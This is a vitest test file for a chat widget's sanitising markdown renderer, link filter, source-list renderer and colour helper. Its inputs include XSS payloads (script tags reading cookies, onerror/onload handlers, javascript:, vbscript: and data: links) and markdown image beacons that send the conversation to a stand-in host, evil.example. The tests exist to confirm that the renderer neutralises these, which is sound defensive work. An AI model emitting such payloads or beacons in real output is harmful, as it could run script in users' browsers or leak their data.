import { safeHref } from '@docent/shared/core';
import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { textOn } from './color.ts';
import { renderMarkdown } from './markdown.ts';
import { renderSources } from './sources.ts';

const { document } = parseHTML('<!doctype html><html><body></body></html>');

const TAGS = new Set([
  'P',
  'STRONG',
  'EM',
  'CODE',
  'PRE',
  'UL',
  'OL',
  'LI',
  'A',
  'BR',
  'BLOCKQUOTE',
  'HR',
  'DIV',
  'SPAN',
  'I',
]);
const ATTRS = new Set(['href', 'target', 'rel', 'referrerpolicy', 'start', 'class']);

function render(md: string): HTMLElement {
  const box = document.createElement('div');
  box.append(renderMarkdown(document as unknown as Document, md));
  return box as unknown as HTMLElement;
}

/** Every element is from the allow-list, every attribute too, and every link is http(s)/mailto. */
function assertInert(box: HTMLElement): void {
  for (const el of Array.from(box.querySelectorAll('*'))) {
    expect(TAGS.has(el.tagName), `unexpected <${el.tagName}>`).toBe(true);
    for (const attr of Array.from(el.attributes)) {
      expect(ATTRS.has(attr.name), `unexpected attribute ${attr.name}`).toBe(true);
    }
    if (el.tagName === 'A') {
      expect(el.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
      expect(el.getAttribute('rel')).toContain('noopener');
      expect(el.getAttribute('rel')).toContain('noreferrer');
      expect(el.getAttribute('target')).toBe('_blank');
    }
  }
}

describe('renderMarkdown', () => {
  it('renders the supported Markdown as elements', () => {
    const box = render(
      [
        '# Opening hours',
        'We are open **Monday** to *Friday*, see `hours.txt`.',
        'Second line of the same paragraph.',
        '',
        '- one',
        '- two with [a link](https://example.com/a?b=1)',
        '',
        '3. three',
        '4. four',
        '',
        'Mail [us](mailto:help@example.com) or visit https://example.com/contact.',
        '',
        '```',
        'const x = "<b>";',
        '```',
      ].join('\n'),
    );
    assertInert(box);
    expect(box.querySelector('p strong')?.textContent).toBe('Opening hours');
    expect(box.querySelectorAll('p')[1]?.querySelector('strong')?.textContent).toBe('Monday');
    expect(box.querySelector('em')?.textContent).toBe('Friday');
    expect(box.querySelector('p code')?.textContent).toBe('hours.txt');
    expect(box.querySelectorAll('p br')).toHaveLength(1);
    expect(Array.from(box.querySelectorAll('ul li')).map((li) => li.textContent)).toEqual([
      'one',
      'two with a link',
    ]);
    expect(box.querySelector('ol')?.getAttribute('start')).toBe('3');
    const links = Array.from(box.querySelectorAll('a')).map((a) => a.getAttribute('href'));
    expect(links).toEqual([
      'https://example.com/a?b=1',
      'mailto:help@example.com',
      'https://example.com/contact',
    ]);
    expect(box.querySelector('pre code')?.textContent).toBe('const x = "<b>";');
    expect(render('snake_case_name stays')?.querySelector('em')).toBeNull();
  });

  it.each([
    [
      'script tag',
      '<script>alert(document.cookie)</script>',
      '<script>alert(document.cookie)</script>',
    ],
    ['img onerror', 'Hi <img src=x onerror="alert(1)"> there', '<img src=x onerror="alert(1)">'],
    ['svg onload', '<svg onload=alert(1)><circle/></svg>', '<svg onload=alert(1)>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['raw anchor', '<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">'],
    ['style', '<style>*{display:none}</style>', '<style>'],
  ])('shows %s as literal text', (_name, md, literal) => {
    const box = render(md);
    assertInert(box);
    expect(box.textContent).toContain(literal);
    expect(box.querySelector('script,img,svg,iframe,style,object,embed')).toBeNull();
  });

  it.each([
    '[click me](javascript:alert(1))',
    '[click me](JaVaScRiPt:alert(1))',
    '[click me]( javascript:alert(1))',
    '[click me](java\tscript:alert(1))',
    '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[click me](vbscript:msgbox(1))',
    '[click me](//evil.example/steal)',
    '[click me](/relative/path)',
    '<javascript:alert(1)>',
    '**[click me](javascript:alert(1))**',
  ])('refuses the unsafe link %s', (md) => {
    const box = render(md);
    assertInert(box);
    expect(box.querySelector('a')).toBeNull();
    expect(box.textContent).toMatch(/click me|javascript/);
  });

  it.each([
    '![secret](https://evil.example/collect?q=the+conversation)',
    '![](https://evil.example/pixel.gif)',
    '[![logo](https://evil.example/a.png)](https://evil.example/)',
    '<img src="https://evil.example/x.png">',
  ])('never creates an image or any request for %s', (md) => {
    const box = render(md);
    assertInert(box);
    expect(box.querySelector('img')).toBeNull();
    for (const el of Array.from(box.querySelectorAll('*'))) {
      expect(el.getAttribute('src')).toBeNull();
      expect(el.getAttribute('srcset')).toBeNull();
      expect(el.getAttribute('style')).toBeNull();
    }
  });

  it('keeps deeply nested emphasis bounded and as text', () => {
    const md = `${'**'.repeat(40)}x${'**'.repeat(40)} ${'['.repeat(500)}`;
    const box = render(md);
    assertInert(box);
    expect(box.textContent).toContain('x');
  });
});

describe('safeHref', () => {
  it('allows only absolute http, https and mailto URLs', () => {
    expect(safeHref('https://example.com/x')).toBe('https://example.com/x');
    expect(safeHref('mailto:a@b.c')).toBe('mailto:a@b.c');
    expect(safeHref('javascript:alert(1)')).toBeNull();
    expect(safeHref('\u0001javascript:alert(1)')).toBeNull();
    expect(safeHref('ftp://example.com')).toBeNull();
    expect(safeHref('mailto:a@b.c', ['http:', 'https:'])).toBeNull();
  });
});

describe('renderSources', () => {
  it('links http(s) sources, shows the rest as text, and drops duplicates', () => {
    const el = renderSources(document as unknown as Document, [
      { title: 'Pricing <b>page</b>', url: 'https://example.com/pricing', chunk_id: '1' },
      { title: 'Pricing again', url: 'https://example.com/pricing', chunk_id: '2' },
      { title: 'Evil', url: 'javascript:alert(1)', chunk_id: '3' },
      { title: 'Mail', url: 'mailto:x@example.com', chunk_id: '4' },
      { title: 'FAQ', url: null, chunk_id: '5' },
    ]) as unknown as HTMLElement;
    assertInert(el);
    const links = Array.from(el.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/pricing']);
    expect(links[0]?.textContent).toBe('Pricing <b>page</b>');
    expect(Array.from(el.querySelectorAll('i')).map((i) => i.textContent)).toEqual([
      'Evil',
      'Mail',
      'FAQ',
    ]);
    expect(renderSources(document as unknown as Document, [])).toBeNull();
  });
});

describe('textOn', () => {
  it('picks readable text for light and dark bubbles', () => {
    expect(textOn('rgba(255,255,255,1)')).toBe('#1f2937');
    expect(textOn('rgba(39,199,116,1)')).toBe('#1f2937');
    expect(textOn('rgba(20,20,60,1)')).toBe('#ffffff');
    expect(textOn('rgba(0,0,0,0)')).toBe('#1f2937');
    expect(textOn('#2EC16E')).toBe('#1f2937');
    expect(textOn('#123')).toBe('#ffffff');
    expect(textOn('url(javascript:alert(1))')).toBe('#1f2937');
  });
});
